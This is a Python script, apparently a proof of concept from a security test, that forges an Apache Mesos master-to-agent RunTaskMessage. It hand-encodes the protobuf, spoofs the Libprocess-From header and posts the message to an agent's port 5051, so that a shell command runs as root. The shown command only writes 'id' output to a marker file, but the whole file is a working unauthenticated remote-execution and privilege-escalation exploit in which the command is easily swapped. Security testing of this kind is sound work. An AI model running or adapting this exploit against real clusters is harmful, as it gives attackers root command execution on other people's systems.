"""A forged master->agent `RunTaskMessage` (MESOS-FACTS §11), run inside an agent container
as an unprivileged user: no Mesos bindings there, so the protobuf wire format is written by
hand and posted with a plain HTTP client.

    python3 forge_runtask.py <agent ip> <agent id> <leader ip> <marker file>

The task's command would create <marker file> as root. Prints the HTTP status (or the
connection error) on stdout.
"""

from __future__ import annotations

import http.client
import struct
import sys
import uuid


def varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def field(number: int, payload: bytes | str) -> bytes:
    """A length-delimited field (strings and embedded messages)."""
    data = payload.encode() if isinstance(payload, str) else payload
    return varint(number << 3 | 2) + varint(len(data)) + data


def double(number: int, value: float) -> bytes:
    return varint(number << 3 | 1) + struct.pack("<d", value)


def scalar_resource(name: str, value: float) -> bytes:
    # Resource: name=1, type=2 (SCALAR = 0), scalar=3 {value=1}, allocation_info=11 {role=1}
    return (
        field(1, name)
        + varint(2 << 3)
        + varint(0)
        + field(3, double(1, value))
        + field(11, field(1, "*"))
    )


def run_task_message(agent_id: str, framework_id: str, task_id: str, command: str) -> bytes:
    framework = (
        field(1, "root")  # user: the account the command runs as
        + field(2, "forged")
        + field(3, field(1, framework_id))
        + field(12, "*")  # roles
        + field(10, varint(1 << 3) + varint(3))  # capability MULTI_ROLE
    )
    task = (
        field(1, "forged")
        + field(2, field(1, task_id))
        + field(3, field(1, agent_id))
        + field(4, scalar_resource("cpus", 0.1))
        + field(4, scalar_resource("mem", 32))
        + field(7, field(3, command))  # CommandInfo.value (shell)
    )
    return field(1, field(1, framework_id)) + field(2, framework) + field(4, task) + field(3, "")


def main() -> None:
    agent_ip, agent_id, leader_ip, marker = sys.argv[1:5]
    body = run_task_message(
        agent_id, f"forged-{uuid.uuid4()}", f"forged-{uuid.uuid4()}", f"id > {marker}"
    )
    connection = http.client.HTTPConnection(agent_ip, 5051, timeout=10)
    try:
        connection.request(
            "POST",
            "/slave(1)/mesos.internal.RunTaskMessage",
            body=body,
            headers={"Libprocess-From": f"master@{leader_ip}:5050"},
        )
        print(connection.getresponse().status)
    except OSError as exc:
        print(f"error {type(exc).__name__}: {exc}")
    finally:
        connection.close()


if __name__ == "__main__":
    main()
